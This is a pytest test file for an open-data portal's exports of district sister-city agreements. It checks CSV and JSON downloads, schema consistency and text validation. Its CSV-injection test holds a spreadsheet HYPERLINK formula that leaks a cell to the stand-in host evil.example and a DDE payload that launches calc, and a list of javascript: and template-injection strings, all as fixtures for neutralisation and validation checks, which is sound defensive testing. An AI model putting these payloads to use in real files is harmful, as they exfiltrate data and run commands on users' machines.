"""Open data: downloads hold exactly one row per record, ids match the site, the schema is current."""
import csv
import io
import json

import pytest
import yaml
from helpers import FIXTURES, ROOT

from macros.data import kinds
from macros.cli.commands import main as portal
from macros.publish.export import csv_text, export_files
from macros.data.index import PortalIndex
from macros.publish.schema import schema_texts


def test_csv_has_a_header_and_one_row_per_record_with_site_ids(portal):
    index = PortalIndex(portal)
    for kind in kinds.RECORD_KINDS:
        rows = list(csv.DictReader(io.StringIO(csv_text(index, kind))))
        assert [r["id"] for r in rows] == [r.id for d in portal.districts for r in getattr(d, kind)]


def test_full_json_holds_every_record_and_each_record_has_its_own_file(portal):
    index = PortalIndex(portal)
    files = export_files(index)
    data = json.loads(files["portal.json"])
    assert len(data["districts"]) == 39
    for kind in kinds.RECORD_KINDS:
        in_json = [r["id"] for d in data["districts"] for r in d.get(kind, [])]
        assert sorted(in_json) == sorted(index.records[kind])
        for record_id in index.records[kind]:
            record = json.loads(files[f"{kind}/{record_id}.json"])
            assert record["id"] == record_id and record["district"] == index.district_of[record_id].slug


def test_downloads_are_published_with_the_site(real_site):
    assert (real_site / "data" / "agreements.csv").read_text(encoding="utf-8").startswith("\ufeffdistrict,id,")
    assert json.loads((real_site / "data" / "agreements" / "adalar-nacka.json").read_text())["country"] == "SE"
    assert (real_site / "data" / "schema" / "district.schema.json").exists()
    assert 'href="agreements.csv"' in (real_site / "data" / "index.html").read_text(encoding="utf-8")


def test_committed_schema_matches_the_model():
    for name, text in schema_texts().items():
        assert (ROOT / "schema" / name).read_text(encoding="utf-8") == text, f"run `portal schema` ({name})"


def test_every_data_file_points_editors_at_the_schema():
    for path in sorted((ROOT / "data").rglob("*.yaml")):
        first = path.read_text(encoding="utf-8").splitlines()[0]
        assert first.startswith("# yaml-language-server: $schema="), path
        schema = (path.parent / first.split("$schema=", 1)[1]).resolve()
        assert schema.exists(), path


def test_bundled_data_satisfies_the_json_schema():
    jsonschema = pytest.importorskip("jsonschema")
    schema = json.loads((ROOT / "schema" / "district.schema.json").read_text())
    # The schema checked once, one validator for every file (jsonschema.validate checks the schema on each
    # call: 6 s for the 39 files).
    kind = jsonschema.validators.validator_for(schema)
    kind.check_schema(schema)
    validator = kind(schema)
    loader = getattr(yaml, "CSafeLoader", yaml.SafeLoader)  # libyaml when there: the same documents, faster
    for path in sorted((ROOT / "data" / "districts").glob("*.yaml")):
        errors = [f"{e.json_path}: {e.message}"
                  for e in validator.iter_errors(yaml.load(path.read_text(encoding="utf-8"), Loader=loader))]
        assert errors == [], (path.name, errors[:5])


def test_portal_validate_exits_zero_on_good_data_and_one_on_bad(tmp_path, capsys):
    assert portal(["--data", str(ROOT / "data"), "validate"]) == 0
    bad = tmp_path / "data"
    import shutil
    shutil.copytree(ROOT / "data", bad)
    path = bad / "districts" / "adalar.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("country: SE", "country: XX"), encoding="utf-8")
    assert portal(["--data", str(bad), "validate", "--github"]) == 1
    out = capsys.readouterr()
    assert "data/districts/adalar.yaml" in out.err and "'XX' is not a known country code" in out.err
    assert "::error file=data/districts/adalar.yaml,line=" in out.out


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Nacka")'


def _index_with_partner(tmp_path, as_written: str, note: str) -> PortalIndex:
    import shutil

    from macros.data.dataset import load_portal
    data = tmp_path / "data"
    shutil.copytree(FIXTURES / "minimal", data)
    path = data / "districts" / "kadikoy.yaml"
    text = path.read_text(encoding="utf-8").replace("as_written: Nacka", f"as_written: {json.dumps(as_written)}")
    path.write_text(text.replace("    kind: sister_city\n", f"    kind: sister_city\n    note: {json.dumps(note)}\n    note_en: {json.dumps(note)}\n"),
                    encoding="utf-8")
    return PortalIndex(load_portal(data))


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(tmp_path):
    """OWASP's rule for CSV injection: = + - @ tab and CR at the start of a cell are neutralised."""
    index = _index_with_partner(tmp_path, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0")
    files = export_files(index)
    row = next(r for r in csv.DictReader(io.StringIO(files["agreements.csv"].lstrip("\ufeff")))
               if r["id"] == "kadikoy-nacka")
    assert row["partner.as_written"] == "'" + FORMULA
    assert row["note"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["country"] == "SE" and row["partner.name"] == "Nacka"  # ordinary cells unchanged
    from macros.publish.export import _inert
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert _inert(f"{start}1") == f"'{start}1"
    # The JSON keeps the data as written.
    record = json.loads(files["agreements/kadikoy-nacka.json"])
    assert record["partner"]["as_written"] == FORMULA
    assert json.loads(files["portal.json"])["districts"][1]["agreements"][0]["note"].startswith("@SUM")


def test_csv_files_start_with_a_utf8_byte_order_mark_for_excel(tmp_path, portal):
    """Without it Excel in a Turkish locale reads UTF-8 as Windows-1254 and garbles "Bağcılar"."""
    files = export_files(PortalIndex(portal))
    for kind in kinds.RECORD_KINDS:
        raw = files[f"{kind}.csv"].encode("utf-8")
        assert raw.startswith(b"\xef\xbb\xbf" + b"district,id,"), kind
        assert raw.count(b"\xef\xbb\xbf") == 1
    assert not files["portal.json"].startswith("\ufeff")
    written = tmp_path / "export"
    assert portal_cli_export(written) == 0
    assert (written / "agreements.csv").read_bytes().startswith(b"\xef\xbb\xbfdistrict,")
    assert "Bağcılar" in (written / "activities.csv").read_text(encoding="utf-8-sig") or \
        "Bağcılar" in (written / "portal.json").read_text(encoding="utf-8")


def portal_cli_export(out) -> int:
    return portal(["--data", str(ROOT / "data"), "export", "--out", str(out)])


# Text that validation refuses as markup or template syntax, and text that only looks like it.
_HOSTILE = ["{{ x }}", "a }} b", "a %} b", "{# c #}", "<b>x</b>", "[x](y)", "[x] (y)",
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", "see vbscript:x", "(data:text/html,x)"]
_PLAIN = ["Open data: an overview", "JavaScript: temel eğitim", "a < b and c > d", "3 % 4", "x } y", "x <3 y", "</3 y",
          "[1] Kadıköy", "data: 2017"]


@pytest.mark.parametrize("text", _HOSTILE + _PLAIN)
def test_the_editor_schema_refuses_exactly_the_text_validation_refuses(text):
    jsonschema = pytest.importorskip("jsonschema")
    from macros.data import validate
    from macros.data.countries import Countries
    from macros.data.load import Node
    from macros.data.rules import Invalid, TextRule

    ctx = validate.Context(Countries())
    try:
        TextRule().check(Node(text, "f.yaml", 1), str, "title", ctx)
        valid = True
    except Invalid:
        valid = False
    schema = json.loads((ROOT / "schema" / "district.schema.json").read_text())
    note = schema["properties"]["agreements"]["items"]["properties"]["note"]
    schema_ok = jsonschema.Draft202012Validator(note).is_valid(text)
    assert (valid, schema_ok) == (text in _PLAIN, text in _PLAIN)
